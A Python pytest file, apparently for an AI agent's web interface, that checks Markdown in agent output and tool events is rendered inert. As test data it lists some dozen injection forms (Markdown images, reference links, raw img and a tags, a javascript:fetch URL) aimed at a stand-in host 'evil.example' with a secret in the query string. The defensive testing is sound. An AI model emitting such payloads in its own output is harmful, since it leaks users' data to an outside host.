"""What the page makes of Markdown from data: nothing is fetched, and nothing can be pressed."""

import html.parser
from collections.abc import Callable

import pytest
from nicegui.elements.markdown import prepare_content

from graphs.events import ApprovalWanted, Event, TextDelta, ToolFinished, ToolStarted
from web.wording import inert, line_of

EVIL = "https://evil.example/?k=secret"
FORMS = [
    f"![chart]({EVIL})",
    f"[press]({EVIL})",
    f"[press] ({EVIL})",
    f"[press][1]\n\n[1]: {EVIL}",
    f"[press][]\n\n[press]: {EVIL}",
    f"[press] [1]\n\n  [1]: <{EVIL}>",
    f"[1]\n\n[1]:\n{EVIL}",
    f"<{EVIL}>",
    f"<img src='{EVIL}'>",
    f"<a href='{EVIL}'>x</a>",
    f"[a![b]({EVIL})c]({EVIL})",
    f"[x](javascript:fetch('{EVIL}'))",
    f"a | b\n--- | ---\n[x]({EVIL}) | ![y]({EVIL})\n",
    f"- [x]({EVIL})\n> ![y]({EVIL})",
]


class Live(html.parser.HTMLParser):
    """Collects what a page would fetch or could be pressed."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if any(name in ("href", "src", "srcset", "style", "action") or name.startswith("on") for name, _ in attrs):
            self.found.append(tag)


def live_in(markdown: str) -> list[str]:
    reader = Live()
    reader.feed(prepare_content(markdown, extras="fenced-code-blocks tables"))
    return reader.found


@pytest.mark.parametrize("form", FORMS)
@pytest.mark.parametrize(
    "event",
    [
        lambda text: TextDelta(text=text),
        lambda text: ToolStarted(call="c", tool=text, arguments={}),
        lambda text: ToolFinished(call="c", tool=text, seconds=1, error=text),
        lambda text: ApprovalWanted(approval="a", tool=text, arguments={}, why=text),
    ],
    ids=["text", "started", "failed", "approval"],
)
def test_nothing_is_fetched_and_nothing_can_be_pressed(form: str, event: Callable[[str], Event]) -> None:
    assert live_in(inert(line_of(event(form)))) == []


def test_the_forms_are_live_without_it() -> None:
    assert sum(bool(live_in(form)) for form in FORMS) >= 10


def test_a_link_over_two_pieces_of_a_stream_is_none() -> None:
    said = "".join(line_of(TextDelta(text=piece)) for piece in ("[press", "]", f"({EVIL})"))
    assert live_in(inert(said)) == []


def test_tables_lists_and_code_are_still_shown() -> None:
    shown = prepare_content(inert("- a\n\n`x[0]`\n\n| a |\n|---|\n| 1 |\n"), extras="tables")
    assert "<li>" in shown
    assert "<code>x[0]</code>" in shown
    assert "<table>" in shown
